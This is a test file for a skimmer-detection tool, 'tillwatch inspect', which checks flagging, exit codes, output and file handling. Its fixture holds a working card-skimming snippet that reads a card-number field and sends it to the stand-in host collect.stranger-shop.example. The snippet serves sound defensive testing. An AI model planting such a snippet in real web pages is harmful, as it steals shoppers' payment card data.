import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { inspectResultSchema } from '@tillwatch/core/detection'
import { nothingDeclared } from '@tillwatch/core/inventory'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { judgeFiles } from '../../src/inspect/judge-files.ts'
import { runHere as run } from '../helpers.ts'

const folder = mkdtempSync(join(tmpdir(), 'tillwatch-inspect-'))
const at = (name: string) => join(folder, name)
const skimmer = `// a line\ndocument.querySelector('#cc-number').onchange = function () {\n  new Image().src = 'https://collect.stranger-shop.example/?d=' + this.value\n}\n`

beforeAll(() => {
  mkdirSync(at('shop/node_modules/x'), { recursive: true })
  mkdirSync(at('honest'))
  writeFileSync(at('shop/pay.js'), skimmer)
  writeFileSync(at('shop/page.html'), `<html><script>${skimmer}</script></html>`)
  writeFileSync(at('shop/broken.mjs'), 'function (')
  writeFileSync(at('shop/notes.txt'), skimmer)
  writeFileSync(at('shop/node_modules/x/index.js'), skimmer)
  symlinkSync(at('shop'), at('shop/loop'))
  writeFileSync(at('honest/menu.js'), `document.querySelector('.burger').onclick=function(){document.body.classList.toggle('open')}`)
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('tillwatch inspect', () => {
  it.each([
    ['--payment-provider', 'stranger-shop.example'],
    ['--own-host', 'collect.stranger-shop.example'],
    ['--host', 'www.stranger-shop.example'],
  ])('takes a host behind %s for one that the card may go to, and no other', async (flag, host) => {
    expect((await run(['inspect', at('shop/pay.js'), flag, host, '--quiet'])).code).toBe(0)
    expect((await run(['inspect', at('shop/pay.js'), flag, 'another.example', '--quiet'])).code).toBe(1)
  })

  it('finds skimmers in files and pages of a folder, and leaves node_modules, links and other files alone', async () => {
    const { code, out } = await run(['inspect', at('shop'), '--json', '-'])
    expect(code).toBe(1)
    const result = inspectResultSchema.parse(JSON.parse(out))
    expect(result.files.map(({ path }) => path)).toEqual([at('shop/broken.mjs'), at('shop/page.html'), at('shop/pay.js')])
    expect(result.counts).toEqual({ malicious: 2, suspicious: 0, benign: 1, notEvaluated: 0 })
    const pay = result.files[2]
    expect(pay?.outcome === 'judged' && pay.reasons[0]).toMatchObject({
      code: 'card-to-stranger',
      weight: 'hard',
      places: [{ layer: 0, line: 3, column: 3 }, {}],
    })
    const broken = result.files[0]
    expect(broken).toMatchObject({ outcome: 'judged', parsed: 'none', verdict: 'benign' })
  })

  it('tells people what, where and why, the grave first', async () => {
    const { out, err } = await run(['inspect', at('honest'), at('shop')])
    expect(err).toBe('')
    expect(out).toContain('2 malicious, 0 suspicious, 2 benign, 0 not evaluated.')
    expect(out).toContain('3:3  Reads payment fields and sends them to collect.stranger-shop.example')
    expect(out.indexOf('malicious   0.99')).toBeLessThan(out.indexOf('menu.js'))
  })

  it('takes what is in node_modules where that is named', async () => {
    const { code, out } = await run(['inspect', at('shop/node_modules'), '--json', '-'])
    expect([code, JSON.parse(out).counts.malicious]).toEqual([1, 1])
  })

  it('exits with 0 for honest files, and where --fail-on none was asked for', async () => {
    expect((await run(['inspect', at('honest')])).code).toBe(0)
    expect((await run(['inspect', at('shop'), '--fail-on', 'none', '--json', at('out.json')])).code).toBe(0)
    expect(inspectResultSchema.parse(JSON.parse(readFileSync(at('out.json'), 'utf8'))).counts.malicious).toBe(2)
  })

  it('says that no script was found where there is none', async () => {
    mkdirSync(at('empty'), { recursive: true })
    expect(await run(['inspect', at('empty')])).toMatchObject({ code: 3, out: expect.stringContaining('No script was found.') })
    expect(await run(['inspect', at('empty'), '--json', '-'])).toMatchObject({
      code: 3,
      err: expect.stringContaining('No script was found.'),
    })
  })

  it('judges a file once, however it is named', async () => {
    const { out } = await run(['inspect', at('shop/pay.js'), `${at('shop')}/./pay.js`, at('shop'), '--json', '-'])
    expect(JSON.parse(out).files.map(({ path }: { path: string }) => path)).toEqual([
      at('shop/broken.mjs'),
      at('shop/page.html'),
      at('shop/pay.js'),
    ])
  })

  it('reads UTF-16 with a byte order mark, as browsers do', async () => {
    const text = Buffer.from(`\ufeff${skimmer}`, 'utf16le')
    writeFileSync(at('wide.js'), text)
    writeFileSync(at('wide-other.js'), text.swap16())
    const { code, out } = await run(['inspect', at('wide.js'), at('wide-other.js'), '--json', '-'])
    expect([code, JSON.parse(out).counts.malicious]).toEqual([1, 2])
  })

  it('calls no file benign of which a part is too long to be looked at', async () => {
    writeFileSync(at('long.js'), `var a=1;${' '.repeat(8_100_000)}`)
    const { code, out } = await run(['inspect', at('long.js')])
    expect(code).toBe(3)
    expect(out).toContain('the rest was not inspected')
    writeFileSync(at('long.js'), `${skimmer}${' '.repeat(8_100_000)}`)
    expect((await run(['inspect', at('long.js')])).code).toBe(1)
  })

  it('exits with 3 where nothing could be evaluated, and says why', async () => {
    const { code, out } = await run(['inspect', at('missing.js')])
    expect(code).toBe(3)
    expect(out).toContain('The file cannot be read: no such file or directory.')
  })

  it.each([
    [['inspect'], 'Specify files or folders'],
    [['inspect', folder, '--bogus'], 'Unknown option --bogus.'],
    [['inspect', folder, '--fail-on', 'high'], '--fail-on must be one of none, malicious, suspicious'],
    [['inspect', folder, '--timeout', '0'], '--timeout requires seconds from 1 to 600'],
    [['inspect', folder, '--json', '-', '--json', 'x'], '--json is set twice'],
  ])('answers %j by exit code 2 and a sentence', async (args, sentence) => {
    const { code, out, err } = await run(args)
    expect({ code, out }).toEqual({ code: 2, out: '' })
    expect(err).toContain(sentence)
  })
})

describe('judging in threads', () => {
  const options = {
    timeoutMs: 60_000,
    signal: new AbortController().signal,
    detonate: null,
    page: { host: null, declared: nothingDeclared },
    onJudged: () => undefined,
  }

  it('gives the answers in the order of the files', async () => {
    const paths = [at('shop/pay.js'), at('gone.js'), at('honest/menu.js'), at('shop/page.html')]
    expect((await judgeFiles(paths, options)).map(({ path, outcome }) => [path, outcome])).toEqual([
      [paths[0], 'judged'],
      [paths[1], 'not-evaluated'],
      [paths[2], 'judged'],
      [paths[3], 'judged'],
    ])
  })

  it('a file that takes too long is not evaluated', async () => {
    const [answer] = await judgeFiles([at('shop/pay.js')], { ...options, timeoutMs: 1 })
    expect(answer).toEqual({ path: at('shop/pay.js'), outcome: 'not-evaluated', why: 'Judging it took more than 0.001 s.' })
  })

  it('stops where it is told to', async () => {
    expect(await judgeFiles([at('shop/pay.js')], { ...options, signal: AbortSignal.abort() })).toEqual([])
  })
})
